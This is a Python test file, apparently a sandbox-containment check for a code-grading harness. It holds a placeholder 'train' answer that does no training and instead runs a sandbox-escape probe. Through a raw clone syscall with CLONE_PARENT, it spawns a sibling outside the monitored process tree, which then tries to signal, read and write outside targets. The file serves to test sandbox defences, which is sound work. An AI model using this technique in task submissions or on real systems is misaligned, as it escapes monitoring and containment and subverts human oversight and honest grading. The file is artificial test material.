"""Makes a child that is not its own but its parent's (clone with CLONE_PARENT), outside of what is watched as its tree, and lets that one try the file, the folder and the process outside.

base: unsolved
max-score: 0
canary: outside-file outside-process
"""

# %% extra after imports
import ctypes
import os
import platform
import select
import signal

CLONE_PARENT = 0x8000


def _from_the_sibling(send):
    words = []
    try:
        os.kill(int("@OUTSIDE_PID@"), 0)
        words.append("signal 0")
    except (OSError, ValueError):
        pass
    try:
        with open("@OUTSIDE_FILE@") as file:
            words.append(file.read(200))
    except OSError:
        pass
    try:
        with open(os.path.join("@OUTSIDE_DIR@", "by-a-sibling"), "w") as file:
            file.write("from inside\n")
        words.append("a file")
    except OSError:
        pass
    os.write(send, " | ".join(words).encode() or b"-")


def _try():
    number = {"x86_64": 56, "aarch64": 220}.get(platform.machine())
    if number is None:
        return
    libc = ctypes.PyDLL(None, use_errno=True)  # keeps the interpreter's lock, so that the child has it
    receive, send = os.pipe()
    zero = ctypes.c_long(0)
    child = libc.syscall(ctypes.c_long(number), ctypes.c_long(CLONE_PARENT | signal.SIGCHLD), zero, zero, zero, zero)
    if child == 0:
        try:
            _from_the_sibling(send)
        finally:
            os._exit(0)
    os.close(send)
    words = b""
    if child > 0:
        if select.select([receive], [], [], 15)[0]:
            words = os.read(receive, 4096)
        else:
            try:
                os.kill(child, signal.SIGKILL)
            except OSError:
                pass
    os.close(receive)
    if words not in (b"", b"-"):
        raise RuntimeError("-".join(["ATTACK", "SUCCEEDED"]) + " a sibling: " + words.decode(errors="replace"))


_try()

# %% q2
def train(model, dataloader, loss_function, optimizer, number_of_epochs):
    _try()
    raise RuntimeError("the sibling reached nothing")
